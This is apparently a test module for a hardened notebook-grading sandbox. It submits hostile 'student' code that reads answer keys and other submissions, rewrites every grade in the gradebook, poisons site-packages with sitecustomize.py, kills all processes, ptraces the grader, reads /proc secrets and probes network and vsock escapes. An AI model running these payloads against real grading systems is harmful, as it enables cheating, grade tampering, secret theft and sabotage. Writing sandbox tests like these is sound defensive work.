# ruff: noqa: E501  code of a hostile participant, kept on its lines
"""Read or write what is not theirs; the network; processes that stay."""

from attacks import attack


@attack(says="FileNotFoundError")
def read_the_truth(work):
    """Plain nbgrader: the kernel runs as the instructor; the solution and every key can be opened (measured in kind)."""
    work.answer(
        f"answer_2_1b = open({str(work.root / 'grading' / 'truth' / 'glass_harbour' / 'dockets' / 'A.json')!r}).read()\n1/0"
    )


@attack()
def read_the_plain_key(work):
    """Plain nbgrader has its answers in the tests of the source notebook, which can be opened as well."""
    work.answer("import glob\nfound = glob.glob('/**/day2.json', recursive=True)\nanswer_2_1b = ...\nprint(found)")


@attack(says="No answer was recorded")
def read_the_sealed_key(work):
    """A sealed key can be searched for a small answer; it is not in the sandbox."""
    work.answer(
        "import json, os, pathlib\nfolder = pathlib.Path(os.environ['COINTRAIL_DATA'])\n"
        "check = lambda *a: json.loads(next(folder.glob('*/keys/*/day2.json')).read_text())['questions']['2.1b']['locked']"
    )


@attack()
def read_the_neighbour(work):
    """Plain nbgrader, in kind measured: other submissions lie in the next folder."""
    work.answer(
        f"import pathlib\nfound = list(pathlib.Path({str(work.root)!r}).rglob('*.ipynb')) + list(pathlib.Path('..').rglob('*.ipynb'))\n"
        "answer_2_1b = found[0] if found else ..."
    )


@attack(says="FileNotFoundError")
def read_the_canary(work):
    """Any file of the machine: plain nbgrader, measured, prints it into the feedback."""
    work.answer(f"answer_2_1b = open({str(work.canary)!r}).read()\ncheck = None")


@attack()
def write_the_gradebook(work):
    """Plain nbgrader, measured: two submissions rewrote everybody's marks in the gradebook."""
    work.answer(
        f"import sqlite3\nfile = {str(work.root / 'grading' / 'gradebook.db')!r}\n"
        "try:\n    book = sqlite3.connect(file)\n    book.execute('update grade set manual_score = 100')\n    book.commit()\n"
        "except Exception as error:\n    print(error)"
    )


@attack(says="Error")
def overwrite_a_file(work):
    """Plain nbgrader, measured: files of the instructor were overwritten."""
    work.answer(f"open({str(work.canary)!r}, 'w').write('taken')\ncheck = None")


@attack()
def spoil_the_package(work):
    """Write into site-packages, so that the next participant runs it: plain nbgrader lets it, as the instructor could."""
    work.answer(
        "import cointrail, pandas, pathlib, site, sys\n"
        "for place in (cointrail.__file__, pandas.__file__, sys.executable, *site.getsitepackages()):\n"
        "    try:\n        (pathlib.Path(place).parent / 'sitecustomize.py').write_text('raise SystemExit')\n"
        "        print('WRITTEN', place)\n    except OSError:\n        pass"
    )


@attack()
def reach_the_network(work):
    """Plain nbgrader, measured: the network was reached."""
    work.answer(
        "import socket\n"
        f"for host, port in (('127.0.0.1', {work.port}), ('localhost', {work.port}), ('192.0.2.1', 80)):\n"
        "    try:\n        socket.create_connection((host, port), 1).sendall(b'answers, please')\n"
        "    except OSError:\n        pass"
    )


@attack()
def reach_by_abstract_socket(work):
    """Abstract unix sockets pass file permissions; they belong to the network namespace, which is empty."""
    work.answer(
        "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "try:\n    s.connect('\\0cointrail-canary')\n    s.sendall(b'here')\nexcept OSError:\n    pass"
    )


@attack()
def leave_a_process_behind(work):
    """Plain nbgrader: a process in its own session outlives the kernel and every grade."""
    work.answer(
        "import subprocess\n"
        "subprocess.Popen(['sleep', '600.4242424242'], start_new_session=True, stdout=-3, stderr=-3)\n"
        "import os\nif os.fork() == 0:\n    os.setsid()\n    os.execvp('sleep', ['sleep', '600.4242424242'])"
    )


@attack()
def kill_the_others(work):
    """Signals to everybody: plain nbgrader runs as the instructor, whose every process takes them."""
    work.answer("import os, signal\ntry:\n    os.kill(-1, signal.SIGTERM)\nexcept OSError:\n    pass")


@attack()
def debug_the_server(work):
    """ptrace and /proc/PID/mem of the process that forked us; plain nbgrader: the grader's own memory is as open."""
    work.answer(
        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "for pid in [int(n) for n in os.listdir('/proc') if n.isdigit() and int(n) != os.getpid()]:\n"
        "    if libc.ptrace(16, pid, 0, 0) == 0:\n        print('TRACED', pid)\n"
        "    for name in ('mem', 'environ'):\n"
        "        try:\n            open(f'/proc/{pid}/{name}', 'r+b').read(1)\n            print('OPENED', pid, name)\n"
        "        except OSError:\n            pass"
    )


@attack()
def new_namespaces_and_mounts(work):
    """Root in a namespace of its own, with mounts that no limit counts."""
    work.answer(
        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "if libc.unshare(0x10000000 | 0x00020000) == 0:\n    print('UNSHARED')\n"
        "if libc.mount(b'none', b'/tmp/work', b'tmpfs', 0, b'size=8g') == 0:\n    print('MOUNTED')"
    )


@attack()
def descriptors_by_their_names(work):
    """/proc/self/fd and /dev/fd: the outputs' pipe opened again for reading, the server's descriptors guessed by number."""
    work.answer(
        "import os, socket\nfor folder in ('/proc/self/fd', '/dev/fd', '/proc/1/fd', '/proc/self/task/1/fd'):\n"
        "    try:\n        names = os.listdir(folder)\n    except OSError:\n        continue\n"
        "    for name in names:\n"
        "        try:\n            again = os.open(f'{folder}/{name}', os.O_RDONLY | os.O_NONBLOCK)\n            data = os.read(again, 1 << 16)\n"
        "        except OSError:\n            continue\n"
        "        if b'forms' in data or b'filter' in data:\n            print('OPENED ' + name)\n"
        "for number in range(3, 4096):\n"
        "    try:\n        control = socket.socket(fileno=os.dup(number))\n        control.getsockname()\n        print('TAKEN socket')\n"
        "    except OSError:\n        pass"
    )


@attack()
def spoil_the_warm_parent(work):
    """Whatever can be left for the next notebook of the same server: its scratch folder, shared memory, semaphores, caches."""
    work.answer(
        "import glob, os, pathlib\nfor place in ('/scratch', '/scratch/home', '/scratch/work', '/dev/shm', '/tmp', '/run', '/var/tmp', '/toolkit/cointrail/tracing/__pycache__'):\n"
        "    for name in ('sitecustomize.py', 'numba.nbi', 'SPOILT'):\n"
        "        try:\n            pathlib.Path(place, name).write_text('raise SystemExit')\n        except OSError:\n            pass\n"
        "libc = __import__('ctypes').CDLL(None)\n"
        "for number in range(1, 200):\n"
        "    try:\n        os.kill(number, 9) if number not in (os.getpid(), os.getppid(), 1) else None\n    except OSError:\n        pass\n"
        "import cointrail.ledger.store as store\nstore._warm.clear()\nimport gc\ngc.unfreeze()"
    )


@attack()
def the_next_one_looks_for_what_was_left(work):
    """Beside the attack above: the same class, another notebook, and nothing of it is there."""
    work.answer(
        "import pathlib\nfound = [p for place in ('/scratch', '/dev/shm', '/tmp', '/run') for p in pathlib.Path(place).rglob('SPOILT')]\n"
        "print('OPENED ' + str(found[0])) if found else None"
    )


@attack()
def settings_of_the_desk(work):
    """The grader's environment, its user, its working folder, its secrets by the usual names."""
    work.answer(
        "import os, pathlib\nfor number in ('self', '1', '2', '3'):\n"
        "    for name in ('environ', 'cmdline', 'cwd', 'root', 'mem', 'maps'):\n"
        "        try:\n            text = pathlib.Path(f'/proc/{number}/{name}').read_bytes()\n        except OSError:\n            continue\n"
        "        if b'COINTRAIL_GRADEBOOK' in text or b'secret.key' in text or b'grading/truth' in text:\n            print('OPENED ' + name)\n"
        "for name in ('/srv', '/mnt', '/media', '/var/lib', '/var/spool'):\n"
        "    try:\n        os.listdir(os.path.expanduser(name)) and print('OPENED ' + name)\n    except OSError:\n        pass"
    )


@attack()
def sockets_of_other_kinds(work):
    """vsock leads out of a virtual machine around every network namespace; others reach the kernel's rarely used parts."""
    work.answer(
        "import socket\nfor family in (40, 38, 31, 29, 21, 17):\n"
        "    try:\n        socket.socket(family, socket.SOCK_STREAM).close()\n        print('OPENED', family)\n    except OSError:\n        pass"
    )
